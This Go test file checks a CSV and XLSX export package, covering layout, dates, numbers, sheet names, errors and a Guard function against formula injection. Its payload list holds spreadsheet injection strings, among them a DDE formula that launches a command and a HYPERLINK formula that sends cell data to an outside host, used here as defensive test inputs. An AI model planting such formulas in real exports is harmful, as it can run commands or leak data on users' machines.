package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"

	"funn/internal/platform/export"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// payloads are texts that spreadsheets have run or may run as formulas: the
// list of OWASP's "CSV Injection" page with blanks, marks without width and
// full-width signs before the formula.
var payloads = []string{
	`=1+1`,
	`+1+1`,
	`-1+1`,
	`@SUM(1+1)`,
	"\t=1+1",
	"\r=1+1",
	"\x00=1+1",
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://example.org/?x="&A1;"se her")`,
	` =1+1`,
	"\uFEFF=1+1",
	`＝1+1`,
}

func list() export.Sheet {
	return export.Sheet{
		Name: "Prosjekter", Title: "Prosjekter i porteføljen", Note: "Kilde: Funn, 2. januar 2023",
		Head: []string{"Nummer", "Tittel", "Beløp", "Start", "Andel", "Merknad"},
		Rows: [][]export.Cell{
			{export.Text("P-2022-041"), export.Text("Æøå; «sitat» \"to\"\nny linje"), export.Money(22_000_000_00), export.Date(time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)), export.Number(0.625), export.Empty()},
			{export.Text("P-2022-042"), export.Text("+6 md."), export.Money(-1_50), export.Date(time.Time{}), export.Number(math.NaN())},
			{export.Text("P-2022-043"), export.Text(""), export.Money(-5), export.Date(time.Date(1899, 1, 1, 0, 0, 0, 0, time.UTC)), export.Int(-7), export.Text("ja")},
		},
	}
}

func writeCSV(t testing.TB, s export.Sheet) string {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func readCSV(t testing.TB, s string) [][]string {
	t.Helper()
	body, found := strings.CutPrefix(s, "\uFEFF")
	if !found {
		t.Fatalf("no byte order mark in %q", s)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("read back %q: %v", s, err)
	}
	return rows
}

func readXLSX(t testing.TB, sheets ...export.Sheet) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteXLSX(&b, sheets...); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	})
	return f
}

func TestCSV(t *testing.T) {
	t.Parallel()
	want := "\uFEFF" + strings.Join([]string{
		`Nummer;Tittel;Beløp;Start;Andel;Merknad`,
		"P-2022-041;\"Æøå; «sitat» \"\"to\"\"\r\nny linje\";22000000;2022-02-01;0,625;",
		`P-2022-042;'+6 md.;-1,50;;;`,
		`P-2022-043;;-0,05;1899-01-01;-7;ja`,
		``,
	}, "\r\n")
	if diff := cmp.Diff(want, writeCSV(t, list())); diff != "" {
		t.Errorf("CSV (-want +got):\n%s", diff)
	}
}

func TestXLSX(t *testing.T) {
	t.Parallel()
	f := readXLSX(t, list())
	got, err := f.GetRows("Prosjekter", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"Nummer", "Tittel", "Beløp", "Start", "Andel", "Merknad"},
		{"P-2022-041", "Æøå; «sitat» \"to\"\nny linje", "22000000", "44593", "0.625"},
		{"P-2022-042", "'+6 md.", "-1.5"},
		{"P-2022-043", "", "-0.05", "1899-01-01", "-7", "ja"},
		nil,
		{"Prosjekter i porteføljen"},
		{"Kilde: Funn, 2. januar 2023"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

func TestFormulasAreText(t *testing.T) {
	t.Parallel()
	for _, p := range payloads {
		s := export.Sheet{Name: p, Title: p, Note: p, Head: []string{p, "B"}, Rows: [][]export.Cell{{export.Text(p), export.Int(-1)}}}
		rows := readCSV(t, writeCSV(t, s))
		for _, row := range rows {
			if !strings.HasPrefix(row[0], "'") {
				t.Errorf("CSV: %q was written as %q", p, row[0])
			}
		}
		if rows[1][1] != "-1" {
			t.Errorf("CSV: the number -1 was written as %q", rows[1][1])
		}
		f := readXLSX(t, s)
		name := f.GetSheetName(0)
		for _, at := range []string{"A1", "A2", "A4", "A5"} {
			formula, err := f.GetCellFormula(name, at)
			if err != nil {
				t.Fatal(err)
			}
			value, err := f.GetCellValue(name, at)
			if err != nil {
				t.Fatal(err)
			}
			if formula != "" || !strings.HasPrefix(value, "'") {
				t.Errorf("XLSX %s: %q was written as formula %q, value %q", at, p, formula, value)
			}
		}
	}
}

// TestXLSXForm checks what makes the workbook pleasant to open.
func TestXLSXForm(t *testing.T) {
	t.Parallel()
	f := readXLSX(t, list(), export.Sheet{Name: "Tom", Head: []string{"Nummer"}})
	if diff := cmp.Diff([]string{"Prosjekter", "Tom"}, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	panes, err := f.GetPanes("Prosjekter")
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v", panes)
	}
	filters := map[string]string{}
	for _, n := range f.GetDefinedName() {
		filters[n.Scope] = n.RefersTo
	}
	if want := map[string]string{"Prosjekter": "'Prosjekter'!$A$1:$F$4", "Tom": "'Tom'!$A$1:$A$1"}; !cmp.Equal(want, filters) {
		t.Errorf("filters %q, want %q", filters, want)
	}
	style := func(at string) *excelize.Style {
		id, err := f.GetCellStyle("Prosjekter", at)
		if err != nil {
			t.Fatal(err)
		}
		s, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	if s := style("A1"); s.Font == nil || !s.Font.Bold {
		t.Error("the head is not bold")
	}
	for at, want := range map[string]string{"C2": "#,##0", "C3": "#,##0.00"} {
		if s := style(at); s.CustomNumFmt == nil || *s.CustomNumFmt != want {
			t.Errorf("%s is not formatted as %s", at, want)
		}
	}
	if s := style("D2"); s.NumFmt != 14 {
		t.Errorf("the day has number format %d", s.NumFmt)
	}
	shown, err := f.GetCellValue("Prosjekter", "C2")
	if err != nil || shown != "22,000,000" {
		t.Errorf("22 million is shown as %q, %v", shown, err)
	}
	kinds := map[string]excelize.CellType{"A2": excelize.CellTypeInlineString, "C2": excelize.CellTypeUnset, "D2": excelize.CellTypeUnset, "E4": excelize.CellTypeUnset}
	for at, want := range kinds {
		if got, err := f.GetCellType("Prosjekter", at); err != nil || got != want {
			t.Errorf("%s has type %v, %v, want %v", at, got, err, want)
		}
	}
	narrow, err := f.GetColWidth("Prosjekter", "E")
	if err != nil {
		t.Fatal(err)
	}
	broad, err := f.GetColWidth("Prosjekter", "B")
	if err != nil {
		t.Fatal(err)
	}
	if narrow < 8 || broad <= narrow || broad > 60 {
		t.Errorf("column widths %v and %v", narrow, broad)
	}
	props, err := f.GetDocProps()
	if err != nil || props.Title != "Prosjekter i porteføljen" {
		t.Errorf("title %+v, %v", props, err)
	}
}

// TestColumnsInOrder reads the sheet itself: the format wants columns from the
// left, and Excel offers to repair a file that has them otherwise.
func TestColumnsInOrder(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := export.WriteXLSX(&b, list()); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	sheet, err := fs.ReadFile(z, "xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, m := range regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(string(sheet), -1) {
		got = append(got, m[1])
	}
	if want := []string{"1", "2", "3", "4", "5", "6"}; !cmp.Equal(want, got) {
		t.Errorf("columns %q, want %q", got, want)
	}
}

func TestDeterministic(t *testing.T) {
	t.Parallel()
	var a, b bytes.Buffer
	for _, w := range []*bytes.Buffer{&a, &b} {
		if err := export.WriteXLSX(w, list()); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("two workbooks of the same list differ")
	}
}

func TestSheetNames(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("æ", 40)
	var sheets []export.Sheet
	for _, name := range []string{"Prosjekter", "prosjekter", "", "a/b:c\\d?e*f[g]", "'sitat'", "History", long, long, "\x01\n", strings.Repeat("😀", 20)} {
		sheets = append(sheets, export.Sheet{Name: name, Head: []string{"A"}})
	}
	want := []string{
		"Prosjekter", "prosjekter (2)", "Data", "a-b-c-d-e-f-g-", "’sitat’", "History (2)",
		strings.Repeat("æ", 30) + "…", strings.Repeat("æ", 26) + "… (2)", "Data (2)", strings.Repeat("😀", 15) + "…",
	}
	if diff := cmp.Diff(want, readXLSX(t, sheets...).GetSheetList()); diff != "" {
		t.Errorf("names (-want +got):\n%s", diff)
	}
}

func TestLongTextIsCut(t *testing.T) {
	t.Parallel()
	for _, s := range []string{strings.Repeat("æ", 40_000), strings.Repeat("😀", 20_000), strings.Repeat("x", 32_767)} {
		f := readXLSX(t, export.Sheet{Name: "A", Head: []string{"A"}, Rows: [][]export.Cell{{export.Text(s)}}})
		got, err := f.GetCellValue("A", "A2")
		if err != nil {
			t.Fatal(err)
		}
		if n := len(utf16.Encode([]rune(got))); n > 32_767 || n < 32_766 {
			t.Errorf("%d units are left", n)
		}
		if cut := len(s) > 32_767; strings.HasSuffix(got, "…") != cut {
			t.Errorf("cut %v, ends %q", cut, got[len(got)-8:])
		}
	}
}

func TestDates(t *testing.T) {
	t.Parallel()
	oslo, err := time.LoadLocation("Europe/Oslo")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		day       time.Time
		csv, xlsx string
	}{
		{time.Date(1900, 3, 1, 0, 0, 0, 0, time.UTC), "1900-03-01", "61"},
		{time.Date(1900, 2, 28, 0, 0, 0, 0, time.UTC), "1900-02-28", "1900-02-28"},
		{time.Date(2023, 1, 2, 0, 0, 0, 0, time.UTC), "2023-01-02", "44928"},
		{time.Date(2023, 7, 2, 0, 30, 0, 0, oslo), "2023-07-02", "45109"}, // the evening before in UTC
		{time.Date(9999, 12, 31, 0, 0, 0, 0, time.UTC), "9999-12-31", "2958465"},
		{time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC), "10000-01-01", "10000-01-01"},
	} {
		s := export.Sheet{Name: "A", Head: []string{"A"}, Rows: [][]export.Cell{{export.Date(tt.day)}}}
		if got := readCSV(t, writeCSV(t, s))[1][0]; got != tt.csv {
			t.Errorf("CSV: %v is written %q", tt.day, got)
		}
		if got, err := readXLSX(t, s).GetCellValue("A", "A2", excelize.Options{RawCellValue: true}); err != nil || got != tt.xlsx {
			t.Errorf("XLSX: %v is written %q, %v", tt.day, got, err)
		}
	}
}

func TestNumbers(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		cell export.Cell
		want string
	}{
		{export.Number(1234567.891), "1234567,891"},
		{export.Number(-0.1), "-0,1"},
		{export.Number(1e21), "1E+21"},
		{export.Number(1.5e-12), "1,5E-12"},
		{export.Number(0), "0"},
		{export.Number(math.Inf(-1)), ""},
		{export.Int(-3), "-3"},
		{export.Money(0), "0"},
		{export.Money(7), "0,07"},
		{export.Money(-107), "-1,07"},
		{export.Money(math.MinInt64), "-92233720368547758,08"},
		{export.Money(math.MaxInt64), "92233720368547758,07"},
		{export.Empty(), ""},
		{export.Text(""), ""},
	} {
		s := export.Sheet{Head: []string{"A", "B"}, Rows: [][]export.Cell{{tt.cell, export.Int(1)}}}
		if got := readCSV(t, writeCSV(t, s))[1][0]; got != tt.want {
			t.Errorf("%+v is written %q, want %q", tt.cell, got, tt.want)
		}
	}
}

func TestRefuses(t *testing.T) {
	t.Parallel()
	wide := export.Sheet{Name: "Bred", Head: []string{"A"}, Rows: [][]export.Cell{{export.Int(1), export.Int(2)}}}
	none := export.Sheet{Name: "Uten kolonner"}
	for name, tt := range map[string]struct {
		err  error
		want string
	}{
		"csv, row too long":   {export.WriteCSV(io.Discard, wide), "row 1 has 2 cells"},
		"csv, no columns":     {export.WriteCSV(io.Discard, none), "no columns"},
		"xlsx, row too long":  {export.WriteXLSX(io.Discard, wide), "row 1 has 2 cells"},
		"xlsx, no columns":    {export.WriteXLSX(io.Discard, none), "no columns"},
		"xlsx, no sheets":     {export.WriteXLSX(io.Discard), "no sheets"},
		"xlsx, many columns":  {export.WriteXLSX(io.Discard, export.Sheet{Head: make([]string, 16_385)}), "more than the format holds"},
		"xlsx, many rows":     {export.WriteXLSX(io.Discard, export.Sheet{Head: []string{"A"}, Rows: make([][]export.Cell, 1_048_576)}), "more than the format holds"},
		"csv, disk full":      {export.WriteCSV(full{}, list()), "disk full"},
		"csv, disk full late": {export.WriteCSV(&full{after: 1}, list()), "disk full"},
		"xlsx, disk full":     {export.WriteXLSX(full{}, list()), "disk full"},
	} {
		if tt.err == nil || !strings.Contains(tt.err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", name, tt.err, tt.want)
		}
	}
}

// full is a disk that takes some writes and then no more.
type full struct{ after int }

func (f full) Write(p []byte) (int, error) {
	if f.after > 0 && len(p) < 10 {
		return len(p), nil
	}
	return 0, errors.New("disk full")
}

// formula reports whether a spreadsheet may take a field for a formula: after
// what it may skip comes a sign that starts one.
func formula(s string) bool {
	s = strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.C, r) })
	return s != "" && strings.ContainsAny(s[:1], "=+-@") || strings.HasPrefix(s, "＝") || strings.HasPrefix(s, "＋") || strings.HasPrefix(s, "－") || strings.HasPrefix(s, "＠")
}

// FuzzText writes any text to both formats: no field may be taken for a
// formula, rows stay whole, and what is read back is what was guarded.
func FuzzText(f *testing.F) {
	for _, p := range payloads {
		f.Add(p, "b")
		f.Add("a", "x\r\n;\""+p)
	}
	f.Add("_x000D_", "_x003D_1+1")
	f.Add(`\.`, "\u00a0-1")
	f.Add("\ufffe\x7f\x85", "😀\xff=")
	f.Fuzz(func(t *testing.T, a, b string) {
		s := export.Sheet{Name: a, Title: b, Note: a, Head: []string{a, b, "c"}, Rows: [][]export.Cell{{export.Text(a), export.Text(b), export.Int(-1)}}}
		rows := readCSV(t, writeCSV(t, s))
		if len(rows) != 2 || len(rows[1]) != 3 || rows[1][2] != "-1" {
			t.Fatalf("rows %q", rows)
		}
		book := readXLSX(t, s)
		name := book.GetSheetName(0)
		for i, text := range []string{a, b} {
			want := export.Guard(text)
			if formula(want) {
				t.Errorf("%q is guarded as %q", text, want)
			}
			for _, got := range []string{rows[0][i], rows[1][i]} {
				if got != want {
					t.Errorf("CSV: %q is read back as %q, want %q", text, got, want)
				}
			}
			at := string(rune('A'+i)) + "2"
			got, err := book.GetCellValue(name, at)
			if err != nil {
				t.Fatal(err)
			}
			if got != want {
				t.Errorf("XLSX: %q is read back as %q, want %q", text, got, want)
			}
			if formula, err := book.GetCellFormula(name, at); err != nil || formula != "" {
				t.Errorf("XLSX: %q became formula %q, %v", text, formula, err)
			}
		}
	})
}

func many() export.Sheet {
	s := export.Sheet{Name: "Prosjekter", Head: []string{"Nummer", "Tittel", "Beløp", "Start", "Andel", "Institusjon"}}
	for i := range 20_000 {
		s.Rows = append(s.Rows, []export.Cell{
			export.Text(fmt.Sprintf("P-2022-%05d", i)), export.Text("Lønnstilskudd for eldre arbeidssøkere og hva det betyr for inntekten"), export.Money(int64(i) * 12345),
			export.Date(time.Date(2022, 1, 1+i%365, 0, 0, 0, 0, time.UTC)), export.Number(float64(i) / 7), export.Text("Institutt A"),
		})
	}
	return s
}

func BenchmarkCSV(b *testing.B) {
	s := many()
	for b.Loop() {
		if err := export.WriteCSV(io.Discard, s); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkXLSX(b *testing.B) {
	s := many()
	b.ReportAllocs()
	for b.Loop() {
		if err := export.WriteXLSX(io.Discard, s); err != nil {
			b.Fatal(err)
		}
	}
}

func TestGuard(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Sykefravær = 6 %", "Sykefravær = 6 %"},
		{"'=1", "'=1"},
		{"-", "'-"},
		{"\tinnrykk", "'\tinnrykk"},
		{"\rlinje", "'\nlinje"},
		{"\r\nlinje", "'\nlinje"},
		{"\x00null", "'null"},
		{"\x01=1", "'=1"},
		{"en\r\nto\rtre", "en\nto\ntre"},
		{"a\xffb\x02\uFFFE", "a\uFFFDb"},
	} {
		if got := export.Guard(tt.in); got != tt.want {
			t.Errorf("Guard(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
